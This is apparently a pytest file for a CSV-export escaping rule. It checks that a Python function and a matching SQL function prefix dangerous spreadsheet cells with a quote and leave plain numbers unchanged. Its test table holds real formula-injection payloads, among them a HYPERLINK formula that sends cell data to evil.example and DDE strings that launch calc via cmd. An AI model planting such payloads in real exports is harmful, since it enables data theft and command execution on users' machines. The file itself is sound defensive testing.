"""CSV cells safe in a spreadsheet: the Python rule (tasks/csvcells.py) by a table, and the SQL
function the server's COPY uses (migration 0011) held to the same table."""

from __future__ import annotations

import csv
import io

import pytest

from tasks.csvcells import csv_text, safe_cell

# (value, the cell written)
CELLS = [
    (
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
    ),
    ("+cmd|calc", "'+cmd|calc"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("-2+3", "'-2+3"),
    ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("=", "'="),
    ("-", "'-"),
    ("+", "'+"),
    ("--5", "'--5"),
    ("-0.5\n", "'-0.5\n"),
    ("-١٢", "'-١٢"),  # not ASCII digits: not a plain number
    ("-e5", "'-e5"),
    ("- 5", "'- 5"),
    # plain numbers stay numbers
    ("-0.5", "-0.5"),
    ("+3", "+3"),
    ("-1e5", "-1e5"),
    ("-1.5E-3", "-1.5E-3"),
    ("-.5", "-.5"),
    ("-5.", "-5."),
    # nothing a spreadsheet runs
    ("Echo: =1+1", "Echo: =1+1"),
    (" =1+1", " =1+1"),
    ("'=1+1", "'=1+1"),
    ("a\n=1+1", "a\n=1+1"),
    ("", ""),
    ("plain text", "plain text"),
]


@pytest.mark.parametrize(("value", "written"), CELLS)
def test_safe_cell(value, written):
    assert safe_cell(value) == written


@pytest.mark.parametrize("value", [-0.5, -3, 0, 2.5, None, True, {"a": "=1"}])
def test_values_that_are_not_text_are_left_as_they_are(value):
    assert safe_cell(value) is value


def test_the_sql_function_agrees_with_the_python_rule(pool):
    values = [value for value, _ in CELLS]
    with pool.connection() as conn:
        rows = conn.execute(
            "SELECT v.value, llmjobs_csv_cell(v.value) AS cell"
            " FROM unnest(%s::text[]) WITH ORDINALITY AS v(value, n) ORDER BY v.n",
            (values,),
        ).fetchall()
        assert conn.execute("SELECT llmjobs_csv_cell(NULL) AS cell").fetchone()["cell"] is None
    assert [(r["value"], r["cell"]) for r in rows] == [(v, safe_cell(v)) for v in values]


def test_csv_text_neutralises_header_and_cells_and_keeps_numbers():
    text = csv_text(
        ["=name", "value", "cost"],
        [{"=name": "@x", "value": "=1+1", "cost": -0.5}, {"value": "-0.5"}],
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["'=name", "value", "cost"], ["'@x", "'=1+1", "-0.5"], ["", "-0.5", ""]]
